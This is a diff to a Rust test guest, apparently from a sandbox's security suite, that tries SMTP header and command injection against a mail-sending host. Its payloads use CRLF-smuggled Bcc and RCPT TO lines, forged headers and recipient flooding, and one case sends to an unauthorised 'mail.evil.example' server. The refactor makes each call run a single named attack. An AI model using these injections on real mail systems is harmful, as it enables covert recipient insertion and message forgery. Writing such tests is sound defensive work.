@@ -1,6 +1,8 @@
 //! Puts headers, recipients and commands into a mail that are not its own.
 
-use guest_kit::{Attack, ConfigOption, Notification, Receipt, SendError, Want, attack, option, report, smtp, want};
+use guest_kit::{
+    Attack, ConfigOption, Notification, Receipt, SendError, Want, attack, option, report, smtp, want,
+};
 
 struct SmugglesMail;
 
@@ -48,27 +50,27 @@ impl Attack for SmugglesMail {
         vec![option("host", "string"), option("port", "number")]
     }
 
-    /// `event.message` is the granted server; everything is refused before it hears of it.
+    /// `event.message` is the granted server and the attack, because an attempt may send one mail only.
     fn send(notification: Notification) -> Result<Receipt, SendError> {
-        let server = notification.event.message;
-        let attempts = [
-            ("subject", smtp::Mail { subject: "a\r\nBcc: eve@example.com".into(), ..mail() }),
-            ("name", smtp::Mail { to: vec![mailbox(Some("a\r\nb"), "alice@example.com")], ..mail() }),
-            ("address", smtp::Mail { to: vec![mailbox(None, "a@example.com>\r\nRCPT TO:<eve@example.com")], ..mail() }),
-            ("quoted address", smtp::Mail { to: vec![mailbox(None, "\"a>b\"@example.com")], ..mail() }),
-            ("header name", smtp::Mail { headers: vec![("X-A\r\nBcc".into(), "eve@example.com".into())], ..mail() }),
-            ("header value", smtp::Mail { headers: vec![("X-A".into(), "b\nBcc: eve@example.com".into())], ..mail() }),
-            ("foreign header", smtp::Mail { headers: vec![("Received".into(), "from me".into())], ..mail() }),
-            (
-                "many recipients",
-                smtp::Mail { to: (0..60).map(|n| mailbox(None, &format!("u{n}@example.com"))).collect(), ..mail() },
-            ),
-            ("no recipient", smtp::Mail { to: Vec::new(), ..mail() }),
-        ];
-        let mut lines: Vec<String> =
-            attempts.into_iter().map(|(what, mail)| format!("{what} => {}", tried(&server, mail))).collect();
-        lines.push(format!("another server => {}", tried("mail.evil.example:25", mail())));
-        report(lines.join("\n"))
+        let (server, attack) = notification.event.message.split_once(' ').expect("a server and an attack");
+        let header = |name: &str, value: &str| vec![(name.into(), value.into())];
+        let crowd = || (0..60).map(|number| mailbox(None, &format!("u{number}@example.com"))).collect();
+        let mail = match attack {
+            "subject" => smtp::Mail { subject: "a\r\nBcc: eve@example.com".into(), ..mail() },
+            "name" => smtp::Mail { to: vec![mailbox(Some("a\r\nb"), "alice@example.com")], ..mail() },
+            "address" => {
+                smtp::Mail { to: vec![mailbox(None, "a@example.com>\r\nRCPT TO:<eve@example.com")], ..mail() }
+            }
+            "quoted address" => smtp::Mail { to: vec![mailbox(None, "\"a>b\"@example.com")], ..mail() },
+            "header name" => smtp::Mail { headers: header("X-A\r\nBcc", "eve@example.com"), ..mail() },
+            "header value" => smtp::Mail { headers: header("X-A", "b\nBcc: eve@example.com"), ..mail() },
+            "foreign header" => smtp::Mail { headers: header("Received", "from me"), ..mail() },
+            "many recipients" => smtp::Mail { to: crowd(), ..mail() },
+            "no recipient" => smtp::Mail { to: Vec::new(), ..mail() },
+            _ => mail(),
+        };
+        let server = if attack == "another server" { "mail.evil.example:25" } else { server };
+        report(format!("{attack} => {}", tried(server, mail)))
     }
 }
 
